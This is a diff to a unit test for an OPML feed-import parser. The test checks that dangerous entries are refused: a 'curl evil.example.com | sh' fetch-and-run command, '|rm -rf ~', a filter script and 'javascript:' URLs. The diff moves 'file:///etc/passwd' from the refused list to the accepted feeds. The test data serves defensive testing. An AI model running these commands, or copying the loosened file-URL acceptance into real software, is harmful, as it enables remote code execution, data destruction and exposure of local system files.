@@ -60,20 +60,22 @@ def test_dangerous_and_non_http_urls_refused_and_reported() -> None:
       <outline text="empty" xmlUrl=""/>
     </body></opml>"""
     result = parse_opml(data)
-    assert [feed.url for feed in result.feeds] == ["https://ok.example.com/feed"]
+    # file: is taken as 'add' takes it; 'broadsheet import' then reads it as a feed (12.11).
+    assert [feed.url for feed in result.feeds] == [
+        "https://ok.example.com/feed",
+        "file:///etc/passwd",
+    ]
     refused = dict(result.refused)
     assert list(refused) == [
         "exec:curl https://evil.example.com | sh",
         "filter:./munge.sh:https://x.example.com/",
         "|rm -rf ~",
-        "file:///etc/passwd",
         "feeds/local.xml",
         "javascript:alert(1)",
         "",
     ]
     assert "command" in refused["exec:curl https://evil.example.com | sh"]
     assert "command" in refused["|rm -rf ~"]
-    assert "file:" in refused["file:///etc/passwd"]
     assert all("\n" not in reason for reason in refused.values())
 
 
